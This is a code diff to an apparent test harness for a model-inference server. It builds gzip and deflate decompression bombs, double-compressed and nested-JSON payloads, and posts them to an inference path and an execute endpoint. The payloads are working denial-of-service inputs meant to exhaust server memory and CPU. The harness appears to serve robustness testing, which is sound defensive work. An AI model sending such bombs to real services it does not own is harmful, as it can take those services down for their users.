@@ -4,8 +4,7 @@ from __future__ import annotations
 
 import gzip
 import zlib
-from collections.abc import Callable
-
+from functools import partial
 from .wire import EXECUTE, Target, json_bytes
 
 _PATH = "/v2/models/ARGMAX/infer"
@@ -18,30 +17,32 @@ _BODY = json_bytes(
 _USUAL = {"Accept": "application/json"}
 
 
-def _bomb(size: int, compressor: Callable[[], zlib._Compress]) -> bytes:
-    """So many zero bytes, compressed."""
-    made, piece = compressor(), bytes(1 << 20)
-    return b"".join(made.compress(piece) for _ in range(size >> 20)) + made.flush()
+def _bomb(mebibytes: int, window_bits: int) -> bytes:
+    """So many zero bytes, compressed; the same piece again and again, and without the sums at the end."""
+    made, piece = zlib.compressobj(9, zlib.DEFLATED, window_bits), bytes(1 << 20)
+    first, next_ = (made.compress(piece) + made.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
+    return first + next_ * (mebibytes - 1)
 
 
 def bombs(target: Target) -> None:
     """A few megabytes that expand to gigabytes, in each encoding, and twice compressed."""
-    size = target.size(1 << 30, 1 << 28)
-    gzipped = _bomb(size, lambda: zlib.compressobj(9, zlib.DEFLATED, 31))
-    deflated = _bomb(size, lambda: zlib.compressobj(9))
+    size = target.size(4096, 512)
+    gzipped, deflated = _bomb(size, 31), _bomb(size, 15)
     bodies = {
         "gzip": (gzipped, "gzip"),
         "deflate": (deflated, "deflate"),
-        "gzip twice": (gzip.compress(gzipped), "gzip"),
-        "a list": (gzip.compress(gzipped), "gzip, gzip"),
+        "gzip twice": (gzip.compress(gzipped, 1), "gzip"),
+        "a list": (gzip.compress(gzipped, 1), "gzip, gzip"),
         "many members": (gzip.compress(b" ") * 100_000, "gzip"),
-        "JSON that is nested": (gzip.compress(b"[" * (size >> 4)), "gzip"),
-        "spaces": (gzip.compress(b" " * (size >> 3) + _BODY), "gzip"),
+        "JSON that is nested": (gzip.compress(b"[[[]]]," * (size << 11), 1), "gzip"),
+        "spaces": (gzip.compress(b" " * (size << 14) + _BODY, 1), "gzip"),
     }
-    for what, (body, encoding) in bodies.items():
-        if target.left > 0:
-            for path in (_PATH, EXECUTE):
-                target.ask(target.post(path, body, {"Content-Encoding": encoding}), f"{what} to {path}")
+    asks = [
+        partial(target.ask, target.post(path, body, {"Content-Encoding": encoding}), f"{what} to {path}")
+        for what, (body, encoding) in bodies.items()
+        for path in (_PATH, EXECUTE)
+    ]
+    target.each(asks, 2)
 
 
 def lies(target: Target) -> None:
